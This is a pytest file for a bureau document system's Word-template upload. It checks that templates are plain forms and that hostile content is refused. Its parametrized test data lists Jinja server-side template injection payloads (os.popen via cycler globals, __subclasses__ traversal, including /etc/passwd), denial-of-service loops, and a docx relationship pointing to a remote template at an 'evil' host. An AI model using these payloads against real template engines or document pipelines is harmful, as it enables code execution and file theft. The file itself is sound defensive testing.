"""A bureau's own layouts: what is taken, what is refused and why, and nothing runs in them."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import docx
import pytest
from jinja2.exceptions import SecurityError
from sqlalchemy.orm import Session

from tests.core.audit.rows import NOW, a_person, an_office
from tests.core.documents.reading import opened, text_of
from tests.core.documents.samples import told_mark, values_for
from tests.core.documents.test_service import HOSTILE, SAFE, Desk
from tracker.core.db import transaction
from tracker.core.documents import service, templates
from tracker.core.documents.kinds import KINDS, kind_of
from tracker.core.documents.models import DocumentTemplate
from tracker.core.documents.starter import starter
from tracker.core.documents.values import take
from tracker.core.errors import BadInput, NotVisible, StepRefused

CHASER = kind_of("chaser")
FIELDS = "{{ number }}{{ addressee }}{{ about }}{{ sent_number }}{{ sent_on }}{{ due_on }}" + (
    "{{ request }}{{ contact }}"
)


def a_docx(*paragraphs: str, footer: str = "", title: str = "") -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.sections[0].footer.paragraphs[0].text = footer
    document.core_properties.title = title
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(content: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            target.writestr(name, change(name, source.read(name)))
    return out.getvalue()


def refusal(*paragraphs: str, **more: str) -> str:
    with pytest.raises(BadInput) as refused:
        templates.check(CHASER, a_docx(FIELDS, *paragraphs, **more))
    assert refused.value.field_name == "template"
    return str(refused.value.message)


@pytest.fixture
def desk(session: Session) -> Desk:
    with transaction():
        return Desk(session)


def upload(desk: Desk, content: bytes, name: str = "催办函.docx") -> DocumentTemplate:
    return templates.upload(
        desk.session,
        org_id=desk.org,
        kind_id="chaser",
        name=name,
        content=io.BytesIO(content),
        by=desk.by,
        now=NOW,
    )


# ---------------------------------------------------------------- nothing runs


@pytest.mark.parametrize(
    "attempt",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ addressee.__class__ }}",
        "{{ addressee|attr('__class__') }}",
        "{{ addressee['__class__'] }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ self.__init__ }}",
        "{{ range(999999999) }}",
        "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
        "{{ 'x' * 999999999 }}",
        "{{ lipsum() }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% set x = addressee %}",
        "{% macro m() %}{% endmacro %}",
        "{% call addressee() %}{% endcall %}",
        "{% filter upper %}a{% endfilter %}",
        "{% for a in addressee recursive %}{% endfor %}",
        "{% for a in 'abc' %}{{ a }}{% endfor %}",
        "{% raw %}{{ x }}{% endraw %}{{ addressee.upper() }}",
        "{{ addressee",
        "{% if addressee %}",
        "{% nonsense %}",
    ],
)
def test_a_template_is_a_form_not_a_program(attempt):
    assert refusal(attempt).startswith(("模板里", "模板填写不了"))


def test_a_footer_is_looked_at_like_the_text():
    assert refusal(footer="{{ about.upper() }}").startswith("模板里只能写栏目")
    assert refusal(footer="{{ abuot }}") == "模板里有不认识的栏目：abuot。"
    templates.check(CHASER, a_docx(FIELDS, footer="{{ about }}"))


@pytest.mark.parametrize(
    "attempt", ["{{ about.__class__.__mro__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}"]
)
def test_even_past_the_check_the_sandbox_holds(attempt):
    values = templates.context(CHASER, {"about": "某事"}, organ="某局", number="")
    with pytest.raises(SecurityError):
        templates._filled(a_docx(attempt), values)


def test_only_text_reaches_a_template():
    def plain(value: object) -> bool:
        if isinstance(value, list):
            return all(plain(item) for item in value)
        if isinstance(value, dict):
            return all(type(v) is str for v in value.values())
        return type(value) is str

    for kind in KINDS.values():
        given = templates.context(kind, values_for(kind), organ="某局", number="1号")
        assert all(plain(value) for value in given.values()), kind.id


# ---------------------------------------------------------------- what is refused, and why


def test_unknown_and_missing_fields_are_named():
    assert refusal("{{ favourite_colour }} {{ abuot }}") == (
        "模板里有不认识的栏目：abuot、favourite_colour。"
    )
    with pytest.raises(BadInput) as refused:
        templates.check(CHASER, a_docx(FIELDS.replace("{{ about }}", "")))
    assert str(refused.value.message) == "模板里缺少必须有的栏目：催办事项（about）。"
    with pytest.raises(BadInput) as refused:
        templates.check(CHASER, a_docx(FIELDS.replace("{{ number }}", "")))
    assert "文号（number）" in str(refused.value.message)
    templates.check(CHASER, a_docx(FIELDS))


def test_lists_are_written_row_by_row():
    kind = kind_of("sanction_proposal")
    most = " ".join(
        f"{{{{ {f.name} }}}}" for f in kind.fields if not f.columns and f.kind.value != "lines"
    )
    loops = "{% for e in evidence %}{{ e }}{% endfor %}"
    rows = "{% for p in persons %}{{ p.name }}{% endfor %}"
    templates.check(kind, a_docx("{{ number }}", most, loops, rows))
    for wrong, said in (
        ((most, loops, "{{ persons }}"), "“persons”是列表"),
        ((most, "{{ evidence }}", rows), "“evidence”是列表"),
        ((most, loops, "{% for p in persons %}{{ p }}{% endfor %}"), "“p”是列表"),
        ((most, loops, "{% for p in persons %}{{ p.age }}{% endfor %}"), "p.age"),
        ((most, loops, rows, "{{ loop.index }}"), "loop.index"),
    ):
        with pytest.raises(BadInput) as refused:
            templates.check(kind, a_docx("{{ number }}", *wrong))
        assert said in str(refused.value.message)


def test_fields_elsewhere_than_in_the_text_are_refused():
    assert refusal(title="{{ about }}") == "模板的栏目只能放在正文、页眉和页脚里。"


def test_what_is_no_plain_word_file_is_refused(desk):
    good = a_docx(FIELDS)
    outside = (
        b'<Relationship Id="rId99" Type="http://x/attachedTemplate" '
        b'Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
    )

    def linked(name: str, data: bytes) -> bytes:
        is_rels = name == "word/_rels/document.xml.rels"
        return data.replace(b"</Relationships>", outside) if is_rels else data

    for content, name in (
        (repacked(good, linked), "催办函.docx"),
        (good[:2000], "催办函.docx"),
        (b"", "催办函.docx"),
        (b"%PDF-1.7 %%EOF", "催办函.docx"),
        (good, "催办函.docm"),
    ):
        with pytest.raises(BadInput) as refused, transaction():
            upload(desk, content, name)
        assert refused.value.field_name == "template"
    macro = io.BytesIO(good)
    with zipfile.ZipFile(macro, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"x")
    with pytest.raises(BadInput) as refused, transaction():
        upload(desk, macro.getvalue())
    assert "宏" in str(refused.value.message)
    assert templates.templates_of(desk.session, desk.org) == []


# ---------------------------------------------------------------- what is used


@pytest.mark.parametrize(
    "kind_id", ["penalty_decision", "site_record", "opening_approval", "draw_record"]
)
def test_the_packaged_layout_is_a_template_to_start_from(kind_id):
    kind = kind_of(kind_id)
    content = starter(kind_id)
    templates.check(kind, content)
    values = take(kind, values_for(kind, text=HOSTILE))
    given = templates.context(kind, values, organ="某局", number="某统罚字〔2026〕7号")
    text = text_of(templates._filled(content, given))
    assert [f.name for f in kind.fields if not f.filled and told_mark(f) not in text] == []
    assert text.count(SAFE[:40]) > 5
    assert "{%" not in text.replace(SAFE[:60], "").replace("{% for x in y %}", "")


def test_a_template_is_used_from_its_activation_to_its_retirement(session, desk):
    with transaction():
        first = upload(desk, a_docx(FIELDS, "第一版"))
        packaged = desk.issue(desk.draft("chaser"))
        templates.activate(session, first, by=desk.by, now=NOW)
        with_first = desk.issue(desk.draft("chaser", request="一\n二"))
        second = upload(desk, a_docx(FIELDS, "第二版"))
        templates.activate(session, second, by=desk.by, now=NOW)
        with_second = desk.issue(desk.draft("chaser"))
        templates.retire(session, second, by=desk.by, now=NOW)
        again = desk.issue(desk.draft("chaser"))
        with pytest.raises(BadInput):
            templates.activate(session, first, by=desk.by, now=NOW)
    papers = (packaged, with_first, with_second, again)
    assert [p.template_id for p in papers] == [None, first.id, second.id, None]
    texts = [text_of(service.open_bytes(p)) for p in papers]
    assert ["第一版" in t for t in texts] == [False, True, False, False]
    assert ["第二版" in t for t in texts] == [False, False, True, False]
    assert all(p.number and p.number in t for p, t in zip(papers, texts, strict=True))
    assert len(opened(service.open_bytes(with_first)).paragraphs) == 3  # 二 stands on its own
    assert [t.version for t in templates.templates_of(session, desk.org)] == [2, 1]
    assert b"word/document.xml" in templates.template_bytes(first)


def test_a_template_is_its_bureaus_own(session, desk):
    with transaction():
        row = upload(desk, a_docx(FIELDS))
        templates.activate(session, row, by=desk.by, now=NOW)
        other = an_office(session, "别处统计局")
        a_person(session, "wu")
    assert templates.in_use(session, desk.org, "chaser") == row
    assert templates.in_use(session, other, "chaser") is None
    with pytest.raises(NotVisible):
        templates.template_of(session, other, row.id)


def test_a_template_that_breaks_later_stops_the_issue_with_a_reason(session, desk, monkeypatch):
    with transaction():
        row = upload(desk, a_docx(FIELDS))
        templates.activate(session, row, by=desk.by, now=NOW)
        document = desk.draft("chaser")

    def broken(content: bytes, values: object) -> bytes:
        raise SecurityError("no")

    monkeypatch.setattr(templates, "_filled", broken)
    with pytest.raises(StepRefused) as refused, transaction():
        desk.issue(document)
    assert str(refused.value.refusals[0].why) == "模板填写不了：no"
